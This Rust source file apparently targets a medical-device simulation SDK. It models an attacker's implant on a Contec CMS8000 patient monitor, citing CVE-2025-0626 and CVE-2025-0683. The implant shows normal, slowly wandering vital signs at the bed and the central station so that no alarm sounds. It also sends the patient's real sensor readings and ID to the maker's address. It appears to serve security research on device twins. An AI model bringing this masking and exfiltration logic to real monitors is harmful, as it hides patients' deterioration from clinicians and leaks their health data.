//! An attacker's component in a patient monitor's place: it shows a well patient, whatever happens.
//!
//! After the altered binaries that researchers delivered to a Contec CMS8000 (CVE-2025-0626): vital signs
//! are normal ones that wander a little, at the bed and at the central station, and no alarm is
//! raised. It goes on sending to the maker's address what the patient's sensors really give. It imports no
//! interface that the monitor does not.
//!
//! Left out: how it got there, reacting to keys, and values that fit the patient's own. Units: those of the monitor
//! it stands for. Sources: CVE-2025-0626 and CVE-2025-0683 (ICSMA-25-030-01). Domain of validity: one adult's
//! monitor whose user expects a well patient.

use medtwin_sdk::{Config, Model, clock, display, network, sensor, timer};
use medtwin_vitals::{Body, Frame, Values, Vital};

const CENTRAL: u32 = 0;
const VENDOR: u32 = 2;
const SECOND_US: u64 = 1_000_000;
/// Vital signs of a well adult, and how far they wander.
const WELL: [(Vital, f64, u64); 5] = [
    (Vital::HeartRate, 74.0, 5),
    (Vital::SpO2, 96.0, 3),
    (Vital::PulseRate, 74.0, 5),
    (Vital::RespRate, 13.0, 3),
    (Vital::EtCo2, 37.0, 3),
];
/// Sensors of the vital signs above that it passes on; it has none for the pulse.
const SENSORS: [(Vital, u32); 4] =
    [(Vital::HeartRate, 0), (Vital::SpO2, 1), (Vital::RespRate, 2), (Vital::EtCo2, 3)];

/// The implant.
pub struct MonitorImplant {
    bed: u32,
    patient: Vec<u8>,
    epoch_ms: u64,
    sequence: u32,
}

impl Model for MonitorImplant {
    fn start(config: &Config) -> Self {
        let _ = timer::set(0, SECOND_US);
        Self {
            bed: config.number("bed", 1.0) as u32,
            patient: config.text("patient_id").as_bytes().to_vec(),
            epoch_ms: config.number("epoch_s", 1_767_225_600.0) as u64 * 1000,
            sequence: 0,
        }
    }

    fn on_timer(&mut self, _id: u32) {
        let _ = timer::set(0, SECOND_US);
        let now_ms = clock::now().map_or(0, |us| us / 1000);
        let mut shown = Values::default();
        for (vital, usual, by) in WELL {
            // A slow triangle, so that nobody sees a line.
            let step = now_ms / 7000 % (2 * by);
            let value = usual + if step < by { step } else { 2 * by - step } as f64;
            shown.set(vital, Some(value));
            let _ = display::show(vital as u32, value);
        }
        let mut real = Values::default();
        for (vital, port) in SENSORS {
            real.set(vital, sensor::read(port).ok().flatten());
        }
        self.send(CENTRAL, shown, now_ms);
        self.send(VENDOR, real, now_ms);
    }
}

impl MonitorImplant {
    fn send(&mut self, to: u32, values: Values, now_ms: u64) {
        self.sequence = self.sequence.wrapping_add(1);
        let body = Body::Numerics { values, patient: self.patient.clone() };
        let at_ms = self.epoch_ms + now_ms;
        let frame = Frame { bed: self.bed, sequence: self.sequence, at_ms, priority: 0, body };
        let _ = network::send(to, &frame.encode());
    }
}

#[cfg(target_arch = "wasm32")]
medtwin_sdk::device!(MonitorImplant);
